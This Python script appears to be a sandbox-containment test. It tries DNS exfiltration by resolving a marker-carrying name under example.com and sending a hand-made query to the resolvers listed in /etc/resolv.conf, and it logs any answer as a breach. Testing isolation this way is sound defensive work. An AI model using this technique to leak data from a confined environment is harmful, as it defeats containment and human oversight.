#!/usr/bin/env python3
# Attack: DNS, the classic exfiltration channel (data in the query name): getaddrinfo of
# an outside name, and a hand-made query to the resolvers named in /etc/resolv.conf.
# Contained: no name resolves to an outside address and no query leaves.
#@include _lib.py
import socket

name = "%s.example.com" % MARKER.replace("_", "-")[:40]
try:
    res = socket.getaddrinfo(name, 80)
    addrs = sorted({r[4][0] for r in res})
    breach("getaddrinfo(%s) resolved to %s" % (name, addrs))
except OSError as e:
    log("getaddrinfo(%s): %s" % (name, e))
try:
    res = socket.getaddrinfo("example.com", 443)
    breach("getaddrinfo(example.com) resolved to %s" % sorted({r[4][0] for r in res}))
except OSError as e:
    log("getaddrinfo(example.com): %s" % e)
try:
    with open("/etc/resolv.conf") as f:
        servers = [l.split()[1] for l in f if l.startswith("nameserver")]
except OSError as e:
    servers = []
    log("/etc/resolv.conf: %s" % e)
log("nameservers visible: %s" % servers)
query = (b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x07example\x03com\x00\x00\x01\x00\x01")
for ns in servers[:3]:
    fam = socket.AF_INET6 if ":" in ns else socket.AF_INET
    try:
        s = socket.socket(fam, socket.SOCK_DGRAM)
    except OSError as e:
        log("socket for %s: %s (closed)" % (ns, ename(e.errno)))
        continue
    s.settimeout(1)
    try:
        s.sendto(query, (ns, 53))
        data = s.recv(512)
        breach("resolver %s answered %d bytes" % (ns, len(data)))
    except OSError as e:
        log("query to %s: %s" % (ns, e))
finish()
